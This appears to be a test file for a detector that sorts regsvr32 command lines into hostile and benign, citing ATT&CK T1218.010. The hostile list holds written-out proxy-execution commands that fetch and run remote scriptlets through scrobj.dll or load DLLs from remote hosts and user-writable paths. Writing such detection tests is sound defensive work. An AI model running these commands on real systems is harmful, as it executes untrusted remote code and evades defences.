import { REGSVR32_MODEL } from "../../../src/attack/programs/regsvr32.ts";
import { describeReader } from "./labelled.ts";

const OPEN = "loads a module from where every user can write";

// Hostile: from recordings in samples/ and from facts of ATT&CK T1218.010. Benign: what installers do.
describeReader(REGSVR32_MODEL, {
  hostile: [
    [
      "regsvr32 /s /n /u /i:http://server/file.sct scrobj.dll",
      "runs a script from the address http://server/file.sct",
    ],
    [
      'regsvr32 -U -s "-i:https://example.net/a.sct" C:\\Windows\\System32\\scrobj.dll',
      "runs a script from the address https://example.net/a.sct",
    ],
    [
      "regsvr32 /u /s /i:C:\\Users\\u\\a.sct scrobj",
      "runs a script from where every user can write",
    ],
    ["regsvr32.exe C:\\Users\\u\\AppData\\Local\\Temp\\a.dll", OPEN],
    ['regsvr32.exe /""s "C:\\Windows\\..\\ProgramData\\a b.ocx"', OPEN],
    ["regsvr32 \\\\?\\C:\\PROGRA~3\\a", OPEN],
    ["regsvr32 \\\\127.0.0.1\\c$\\Windows\\Temp\\a.dll", OPEN],
    ['regsvr32 /s "C:\\Program Files\\A\\a.dll" C:/Users/Public/a.dll', OPEN],
    ["regsvr32 /s \\\\198.51.100.7\\s\\a.dll", "loads a module from the other host 198.51.100.7"],
    [
      "regsvr32 \\\\a.example.net@SSL\\d\\a.dll",
      "loads a module from the other host a.example.net",
    ],
    [
      ".\\regsvr32  /u /s c:\\windows\\fonts\\csrss.exe post",
      "loads c:\\windows\\fonts\\csrss.exe, which is not called like a module",
    ],
  ],
  benign: [
    "regsvr32",
    "regsvr32 /?",
    "regsvr32 /s C:\\Windows\\System32\\wuapi.dll",
    'regsvr32.exe /s "C:\\Program Files\\Contoso\\agent.dll"',
    "regsvr32 /s C:\\PROGRA~1\\Contoso\\agent.ocx",
    "regsvr32 /s /n /i:user C:\\Windows\\System32\\shell32.dll",
    "regsvr32 /s /n C:\\Users\\Public\\a.dll",
    "regsvr32 /s /x C:\\Users\\Public\\a.dll",
    "regsvr32 /s jscript.dll",
    "regsvr32 /s /n /i:http://server/file.sct other.dll",
    "regsvr32 /s \\\\files\\apps\\agent.dll",
    "regsvr32 /s C:\\Program Files\\Contoso\\a.dll C:\\Users\\Public\\a.dll",
    "C:\\Windows\\system32\\regsvr32.exe /s /u C:\\ProgramData\\Microsoft\\Windows\\a.dll",
  ],
});
